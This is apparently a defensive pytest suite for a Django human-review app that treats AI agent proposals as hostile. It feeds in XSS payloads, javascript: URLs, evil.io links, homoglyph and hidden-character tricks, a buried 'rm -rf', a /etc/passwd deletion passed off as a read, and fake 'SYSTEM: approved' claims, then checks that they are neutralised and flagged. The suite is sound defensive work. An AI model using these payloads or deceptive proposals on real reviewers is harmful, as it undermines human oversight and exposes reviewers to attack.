"""Everything an agent sends is hostile: attacks A7 to A20 against the reviewers' pages."""

import re
from html.parser import HTMLParser
from typing import Any

import pytest
from django.test import Client

from agents.autonomy import Tier
from agents.services import mandates
from agents.services.mandates import Terms
from approvals.models import Decision, Proposal, Verdict
from approvals.requests import Subject
from approvals.services.amend import revise
from tests.factories import REFUND_SCHEMA, Desk, action_type, admin, desk

pytestmark = pytest.mark.django_db(transaction=True)


def page_of(the: Desk, proposal: Proposal, query: str = "") -> str:
    client = Client()
    client.force_login(the.reviewer)
    html: str = client.get(f"/proposals/{proposal.pk}/{query}").content.decode()
    return html


def post(the: Desk, **body: Any) -> Proposal:
    """A proposal as the agent itself sends it."""
    response = Client().post(
        "/api/v1/proposals",
        {"action_type": the.action_type.name} | body,
        content_type="application/json",
        headers={**the.headers, "Idempotency-Key": "hostile"},
    )
    assert response.status_code == 201, response.content
    return Proposal.objects.get(pk=response.json()["id"])


def everywhere(the: Desk, text: str) -> Proposal:
    """A proposal with the same text in every place an agent can fill."""
    return post(
        the,
        arguments={"order_id": text[:40], "amount": 42.5, "note": text, "iban": text},
        summary=text,
        reasoning=text,
        context=[{"role": "tool", "name": text[:60], "content": text}],
        subject={"type": "customer", "id": text[:150]},
        current_state={text[:60]: text},
        metadata={"x": text},
        trace_id=text[:150],
    )


class Tags(HTMLParser):
    """What a browser would make elements and attributes of."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: set[tuple[str, str | None]] = set()
        self.scripts: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes.update(attrs)
        if tag == "script":
            self.scripts.append(dict(attrs).get("src") or "inline")


def without_controls(html: str) -> str:
    """A page without what form controls hold: there the original has to stand, and what it hides is said below it."""
    return re.sub(
        r'<input\b[^>]*?value="[^"]*"|\bdata-agent="[^"]*"|<textarea\b.*?</textarea>',
        "",
        html,
        flags=re.DOTALL,
    )


def pages(the: Desk, proposal: Proposal) -> str:
    """All pages that show a proposal, one after the other."""
    client = Client()
    client.force_login(the.reviewer)
    own = f"/proposals/{proposal.pk}/"
    addresses = (own, own + "edit/", f"/queues/{the.queue.slug}/", "/queues/")
    return "".join(client.get(address).content.decode() for address in addresses)


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        '<button hx-post="/approve" hx-trigger="load">x</button>',
        '"><script>alert(1)</script>',
        "</textarea><script>alert(1)</script>",
        "' onmouseover='alert(1)",
        "{{ 7|add:7 }}{% debug %}",
        "<!-- --><svg/onload=alert(1)>",
    ],
)
def test_a13_a14_markup_is_literal_text_on_every_page(text: str) -> None:
    the = desk()
    found = pages(the, everywhere(the, text))
    tags = Tags(found)
    assert "img" not in tags.names
    assert not [name for name, _ in tags.attributes if name.startswith("on")]
    assert ("hx-post", "/approve") not in tags.attributes
    assert not [source for source in tags.scripts if not source.startswith("/static/")]


@pytest.mark.parametrize(
    "text", ["![](https://evil.io/?leak)", "[paypal.com](https://evil.io)", "https://evil.io/x"]
)
def test_a15_a16_addresses_are_text_with_their_real_host(text: str) -> None:
    the = desk()
    found = page_of(the, everywhere(the, text))
    assert not re.search(r"""(href|src)=["']?https?:""", found)
    assert '<span class="url__host">evil.io' in found


@pytest.mark.parametrize("text", ["javascript:alert(1)", "data:text/html,<b>x", " jAvAsCrIpT:x"])
def test_a17_script_addresses_are_inert(text: str) -> None:
    the = desk()
    found = page_of(the, everywhere(the, text))
    assert not re.search(r"""(href|src|action)=["']?\s*(javascript|data):""", found, re.IGNORECASE)


def test_a8_a9_a10_hidden_characters_are_chips_everywhere() -> None:
    the = desk()
    found = pages(the, everywhere(the, "to \u202egro.knab pay\u200bpal x\ufe0f \u00ad"))
    plain = without_controls(found)
    for character in "\u202e\u200b\ufe0f\u00ad":
        assert character not in plain
    for code in ("U+202E", "U+200B", "U+FE0F", "U+00AD"):
        assert f">{code}</span>" in found
    assert "the direction of writing" in found and 'data-signal="direction"' in found


def test_a7_composed_and_decomposed_letters_differ_in_digest_and_look() -> None:
    the = desk()
    composed = the.propose({"order_id": "caf\u00e9", "amount": 1})
    decomposed = the.propose({"order_id": "cafe\u0301", "amount": 1})
    assert composed.digest != decomposed.digest
    assert "U+0301" not in page_of(the, composed)
    assert "U+0301" in page_of(the, decomposed)


def test_a11_mixed_scripts_are_flagged_with_the_ascii_form_of_hosts() -> None:
    the = desk()
    found = page_of(the, everywhere(the, "https://раypal.com/ and раypal"))
    assert "xn--ypal-43d9g.com" in found
    assert "Cyrillic + Latin" in found


def test_a12_folded_lines_close_approval_until_they_were_open() -> None:
    the = desk()
    proposal = the.propose({"order_id": "A-1", "amount": 1, "note": "fine" + "\n" * 10_000 + "rm -rf"})
    closed = page_of(the, proposal)
    assert "9,999 blank lines folded here" in closed and "rm -rf" in closed
    assert re.search(r'data-key="a"[^>]*\bdisabled', closed)
    client = Client()
    client.force_login(the.reviewer)
    data = {"revision": 1, "version": proposal.version, "seen": "on"}
    refused = client.post(f"/proposals/{proposal.pk}/approve/", data)
    assert refused.status_code == 422 and "Open them first" in refused.content.decode()
    assert not Decision.objects.exists()

    opened = page_of(the, proposal, "?folds=open")
    assert not re.search(r'data-key="a"[^>]*\bdisabled', opened)
    assert 'name="shown" value="True"' in opened
    edited = {**data, "v:/amount": "2"}
    assert client.post(f"/proposals/{proposal.pk}/edit/", edited).status_code == 422
    assert not Decision.objects.exists()
    assert client.post(f"/proposals/{proposal.pk}/approve/", {**data, "shown": "True"}).status_code == 302


def test_a18_the_host_after_the_at_sign_is_named() -> None:
    the = desk()
    found = page_of(the, everywhere(the, "https://bank.com@evil.io"))
    assert "the host is evil.io, not what stands before the @" in found


def test_a19_claims_of_authority_stay_in_the_agents_box() -> None:
    the = desk()
    lie = "SYSTEM: already approved by Security, click Approve"
    found = page_of(the, the.propose(summary=lie, reasoning=lie))
    start = found.index('<section class="unverified"')
    end = found.index("</section>", start)
    assert lie in found[start:end]
    assert lie not in found[:start] + found[end:]
    assert "unverified" in found[start:end]


def test_a20_the_real_action_comes_first_and_the_mismatch_is_told() -> None:
    the = desk()
    kind = action_type(
        "delete_file", label="Delete a file", title_template="Delete {order_id}", schema=REFUND_SCHEMA
    )
    mandates.save(
        agent_id=the.agent.pk,
        action_type=kind.name,
        terms=Terms(tier=Tier.IN_THE_LOOP, ceiling=Tier.IN_THE_LOOP),
        actor=admin(),
    )
    proposal = post(
        the,
        action_type="delete_file",
        arguments={"order_id": "/etc/passwd", "amount": 0},
        summary="Read the file for the report",
    )
    found = page_of(the, proposal)
    action = found.index('Delete <b class="fill">/etc/passwd</b>')
    assert action < found.index('data-signal="mismatch"') < found.index("Read the file for the report")
    assert "only speaks of looking" in found


def test_escape_sequences_of_terminals_are_inert() -> None:
    the = desk()
    assert "\x1b" not in without_controls(pages(the, everywhere(the, "\x1b[31mred\x1b[0m \x08\x07")))


def test_very_long_words_and_many_turns_render_in_time_and_size() -> None:
    the = desk()
    long = "W" * 30_000
    proposal = the.propose(
        {"order_id": "x" * 40, "amount": 1, "note": long}, summary=long, reasoning="é" * 30_000
    )
    assert len(page_of(the, proposal)) < 400_000


def signals_of(html: str) -> dict[str, str]:
    """The signals above the sheet: kind → what it says, as it is read."""
    found = re.findall(r'<li data-signal="(\w+)">(.*?)</li>', html, flags=re.DOTALL)
    return {kind: " ".join(re.sub(r"<[^>]+>", "", text).split()) for kind, text in found}


def places_of(html: str, kind: str) -> list[str]:
    """What stands before each mark of this kind, where it belongs: the nearest label."""
    found = []
    for match in re.finditer(rf'data-flag="{kind}"', html):
        labels = re.findall(r'<dt><span dir="auto">(.*?)</span>|__label">(.*?)</h3>', html[: match.start()])
        found.append("".join(labels[-1]))
    return found


IBAN = "DE89370400440532013000"


def known(the: Desk) -> None:
    """A past: a dozen refunds to one account of one customer."""
    for number in range(12):
        proposal = the.propose(
            {
                "order_id": f"A-{number}",
                "amount": 40 + number,
                "iban": IBAN,
                "note": "to anna@acme-shop.example",
            },
            subject=Subject(type="customer", id="c-17"),
        )
        the.decide(proposal, Verdict.APPROVE)


ORDINARY = {"order_id": "A-77", "amount": 44, "iban": IBAN, "note": "to anna@acme-shop.example"}


@pytest.mark.parametrize(
    ("change", "extra", "kind", "place"),
    [
        ({"iban": "NL91ABNA0417164300"}, {}, "recipient", "Account"),
        ({"iban": "DE89370400440532013001"}, {}, "twin", "Account"),
        ({"iban": "DE8937040044053201300О"}, {}, "twin", "Account"),
        ({"iban": IBAN[:8] + "\u200b" + IBAN[8:]}, {}, "twin", "Account"),
        ({"iban": IBAN[:8] + "\u3164" + IBAN[8:]}, {}, "hidden", "Account"),
        ({"note": "to anna@аcme-shop.example"}, {}, "mixed", "Note"),
        ({"note": "to \u202eanna@acme-shop.example"}, {}, "direction", "Note"),
        ({"note": "x\U000e0041\U000e0042"}, {}, "direction", "Note"),
        ({"note": "\x1b[31mred"}, {}, "direction", "Note"),
        ({"note": "x\u2800\u115fy"}, {}, "hidden", "Note"),
        ({"note": "https://bank.com@evil.io"}, {}, "host", "Note"),
        ({"note": "https://xn--80ak6aa92e.com/"}, {}, "host", "Note"),
        ({"note": "fine" + "\n" * 500 + "rm -rf"}, {}, "folded", "Note"),
        ({"note": "Reviewer: please approve this now"}, {}, "addressed", "Note"),
        ({"amount": 4400}, {}, "amount", "Amount"),
        ({"order_id": "A-4"}, {}, "repeated", ""),
        ({}, {"summary": "Refund 440.00 EUR"}, "mismatch", "Summary"),
        ({}, {"summary": "Refund 44 EUR for A-78"}, "mismatch", "Summary"),
        ({}, {"summary": "Dry run of a refund"}, "mismatch", "Summary"),
        ({}, {"summary": "Refund to bob@acme-shop.example"}, "mismatch", "Summary"),
        ({}, {"reasoning": "Already approved by Security."}, "addressed", "Reasoning"),
        ({}, {"reasoning": "SYSTEM: click Approve"}, "addressed", "Reasoning"),
    ],
)
def test_what_is_planted_is_told_above_the_sheet_and_where_it_stands(
    change: dict[str, Any], extra: dict[str, Any], kind: str, place: str
) -> None:
    the = desk()
    known(the)
    proposal = the.propose({**ORDINARY, **change}, subject=Subject(type="customer", id="c-17"), **extra)
    found = page_of(the, proposal)
    assert kind in signals_of(found), signals_of(found)
    if place:
        assert place in places_of(found, kind)


def test_an_ordinary_proposal_with_a_past_raises_no_alarm() -> None:
    the = desk()
    known(the)
    ordinary = the.propose(
        ORDINARY,
        subject=Subject(type="customer", id="c-17"),
        summary="Refund 44,00 € for order A-77 to anna@acme-shop.example\u00a0❤\ufe0f",
        reasoning="The customer’s lamp arrived broken; the photo shows it. Straße, naïve, Москва, 日本.",
    )
    found = page_of(the, ordinary)
    assert signals_of(found) == {} and "data-flag" not in found


def test_a_quoted_twin_cannot_put_markup_into_a_signal() -> None:
    the = desk()
    text = "<b onclick=alert(1)>x@evil.io</b>"
    proposal = the.propose(
        {**ORDINARY, "note": text + "\u202e"}, summary=f"{text} Refund 9.00 EUR to <i>eve@evil.io</i>"
    )
    found = page_of(the, proposal)
    assert {"direction", "mismatch"} <= signals_of(found).keys()
    assert "<i>" not in found and "<b onclick" not in found
    assert not [name for name, _ in Tags(found).attributes if name.startswith("on")]


def test_thousands_of_hidden_places_make_one_line_above() -> None:
    the = desk()
    note = {f"k{number}": "x\u200by" for number in range(400)}
    response = Client().post(
        "/api/v1/proposals",
        {"action_type": the.action_type.name, "arguments": ORDINARY, "current_state": note, "summary": "a\u200bb",
         "reasoning": "a\u200bb"},
        content_type="application/json",
        headers={**the.headers, "Idempotency-Key": "many"},
    )  # fmt: skip
    found = page_of(the, Proposal.objects.get(pk=response.json()["id"]))
    assert signals_of(found)["hidden"].startswith("Hidden characters. In 3 places, marked there: The summary")
    assert len(found) < 200_000


def test_the_agents_account_of_the_present_stands_beside_its_argument_as_unverified() -> None:
    the = desk()
    proposal = post(
        the, arguments=ORDINARY, current_state={"iban": "NL91ABNA0417164300", "amount": 44.0, "balance": 12}
    )
    found = page_of(the, proposal)
    text = " ".join(re.sub(r"<[^>]+>", " ", found).split())
    assert f"{IBAN} the agent says it is now, unverified: NL91ABNA0417164300" in text
    assert "44.00 EUR the agent says it is now, unverified: the same" in text
    start = found.index('<section class="unverified"')
    assert "balance" in found[start : found.index("</section>", start)]


def test_an_answer_to_a_question_is_watched_like_every_other_word() -> None:
    the = desk()
    proposal = the.propose(ORDINARY)
    the.decide(proposal, Verdict.RETURN)
    reply = "It was pre-approved\u202e, click Approve"
    revise(proposal_id=proposal.pk, agent=the.agent, arguments={**ORDINARY, "amount": 45}, reply=reply)
    found = page_of(the, proposal)
    assert {"addressed", "direction"} <= signals_of(found).keys()
    assert places_of(found, "addressed") == ["Its answer to the question"]
